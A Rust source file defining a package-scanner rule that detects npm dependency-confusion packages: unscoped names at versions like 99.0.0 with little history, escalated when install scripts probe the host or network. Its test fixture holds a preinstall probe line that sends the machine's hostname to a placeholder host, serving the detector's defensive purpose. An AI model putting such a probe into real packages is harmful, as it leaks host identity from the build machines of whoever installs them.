//! `dependency-confusion`: a public package shaped to win over an internal one.

use crate::declare_rule;
use crate::detect::metadata::{SemVer, package_location, scanned_version};
use crate::rule::{FindingExt, Rule, RuleContext, RuleMeta};
use ferret_core::{Action, Capability, Ecosystem, Finding, PackageFacts, Severity};

/// Confusion packages publish versions like 99.0.0, 100.0.0, 9999.0.0 so that any range an
/// internal package could be pinned with resolves to them. Real packages reach major 90 only
/// with date-based versions (`2024.5.1`, see [`is_calendar_year`]).
const CONFUSION_MAJOR: u64 = 90;

/// Words internal package names carry.
const INTERNAL_WORDS: &[&str] = &[
    "internal",
    "private",
    "corp",
    "intranet",
    "-infra",
    "-platform",
];

declare_rule! {
    /// ## What it does
    /// Reports an unscoped package whose scanned version has a major of 90 or more (`99.0.0`,
    /// `9999.1.0`) while the package has almost no history (this is among its first three
    /// versions, or it jumped there). Raised to `warn` when install-time code probes the
    /// machine or the network (host name, user, network interfaces, DNS, HTTP) — the
    /// signature of dependency-confusion research and attack packages. Without registry
    /// metadata only the version and the install-time probe are judged.
    ///
    /// ## Why is this a risk?
    /// A company's internal package `acme-billing@1.4.0` is shadowed when someone publishes
    /// `acme-billing@99.0.0` on the public registry and a build resolves against both:
    /// the higher version wins, and its install script runs inside the company's CI.
    ///
    /// ## Example
    /// ```json
    /// { "name": "acme-internal-utils", "version": "99.0.0",
    ///   "scripts": { "preinstall": "node probe.js" } }
    /// ```
    ///
    /// ## False positives
    /// Packages with date-based versions (`2024.5.1`, excluded) and the rare real project
    /// past version 90.
    ///
    /// ## References
    /// - Alex Birsan, "Dependency Confusion" (2021)
    /// - GuardDog `threat-npm-dependency-confusion`
    DependencyConfusion, id = "dependency-confusion", category = Metadata, severity = Medium, action = Monitor,
}

impl Rule for DependencyConfusion {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        let name = pkg.id.name.as_str();
        if pkg.id.ecosystem != Ecosystem::Npm || name.starts_with('@') {
            return;
        }
        let version = scanned_version(pkg);
        let Some(v) = SemVer::parse(version) else {
            return;
        };
        if v.major < CONFUSION_MAJOR || is_calendar_year(v.major) {
            return;
        }
        let probe = install_time_probe(pkg);
        let history = pkg.registry.as_ref().map(|r| {
            let before = r.versions_before(version);
            let low_before = before
                .iter()
                .filter_map(|i| SemVer::parse(&i.version))
                .filter(|s| s.major < CONFUSION_MAJOR)
                .count();
            (before.len(), low_before)
        });
        match history {
            // Established packages that reached a high major slowly are not confusion.
            Some((before, _)) if before >= 3 => return,
            None if probe.is_none() => return,
            _ => {}
        }
        let lower = name.to_ascii_lowercase();
        let internal = INTERNAL_WORDS.iter().find(|w| lower.contains(*w));
        let mut message = format!("unscoped `{name}` at version `{version}`");
        match history {
            Some((0, _)) => message.push_str(" as its first version"),
            Some((n, _)) => message.push_str(&format!(" after {n} earlier version(s)")),
            None => {}
        }
        if let Some(w) = internal {
            message.push_str(&format!(", a name with `{}`", w.trim_start_matches('-')));
        }
        if let Some(api) = &probe {
            message.push_str(&format!(", probing `{api}` at install time"));
        }
        let (location, code) = package_location(pkg);
        let mut finding = Finding::of(&Self::META, message)
            .primary(&location, &code, "version")
            .install_time(probe.is_some())
            .evidence("version", version);
        if let Some(api) = probe {
            finding = finding.evidence("install_time_probe", api);
            finding.action = Action::Warn;
            finding.severity = Severity::High;
        }
        cx.report(finding);
    }
}

/// Date-based versions (`2024.5.1`) are not confusion versions.
fn is_calendar_year(major: u64) -> bool {
    (1990..=2100).contains(&major)
}

/// The first install-time use of the network or of system identity, as its API name.
fn install_time_probe(pkg: &PackageFacts) -> Option<String> {
    pkg.files
        .iter()
        .filter(|f| f.install_time)
        .flat_map(|f| &f.uses)
        .find(|u| matches!(u.capability, Capability::Network | Capability::SystemInfo))
        .map(|u| u.api.clone())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::metadata::testing::{check, package, registry, run};

    const PROBE: &str = "const os = require('os'); require('https').get('https://example.invalid/?h=' + os.hostname());";

    fn pkg(
        name: &str,
        version: &str,
        hook: bool,
        versions: Option<&[(&str, i64, &str)]>,
    ) -> PackageFacts {
        let scripts = if hook {
            r#","scripts":{"preinstall":"node probe.js"}"#
        } else {
            ""
        };
        let manifest = format!(r#"{{"name":"{name}","version":"{version}"{scripts}}}"#);
        package(
            &[("package.json", &manifest), ("probe.js", PROBE)],
            versions.map(|v| registry(name, v)),
        )
    }

    #[test]
    fn dependency_confusion() {
        check(
            DependencyConfusion,
            &[
                pkg("acme-internal", "1.0.0", true, Some(&[("1.0.0", 3, "a")])),
                pkg(
                    "@acme/internal",
                    "99.0.0",
                    true,
                    Some(&[("99.0.0", 3, "a")]),
                ),
                pkg("calver", "2024.1.0", true, Some(&[("2024.1.0", 3, "a")])),
                pkg(
                    "big",
                    "120.0.0",
                    false,
                    Some(&[
                        ("1.0.0", 900, "a"),
                        ("50.0.0", 500, "a"),
                        ("119.0.0", 30, "a"),
                        ("120.0.0", 3, "a"),
                    ]),
                ),
                // Offline, no install-time probe: not enough.
                pkg("acme-internal", "99.0.0", false, None),
            ],
            &[
                pkg(
                    "acme-internal-utils",
                    "99.0.0",
                    true,
                    Some(&[("99.0.0", 3, "a")]),
                ),
                pkg(
                    "acme-billing",
                    "100.0.0",
                    false,
                    Some(&[("100.0.0", 3, "a")]),
                ),
                pkg("acme-billing", "9999.0.0", true, None),
            ],
        );
        let warn = run(
            DependencyConfusion,
            &pkg(
                "acme-internal-utils",
                "99.0.0",
                true,
                Some(&[("99.0.0", 3, "a")]),
            ),
        );
        assert_eq!(warn[0].action, Action::Warn);
        let monitor = run(
            DependencyConfusion,
            &pkg(
                "acme-billing",
                "100.0.0",
                false,
                Some(&[("100.0.0", 3, "a")]),
            ),
        );
        assert_eq!(monitor[0].action, Action::Monitor);
    }
}
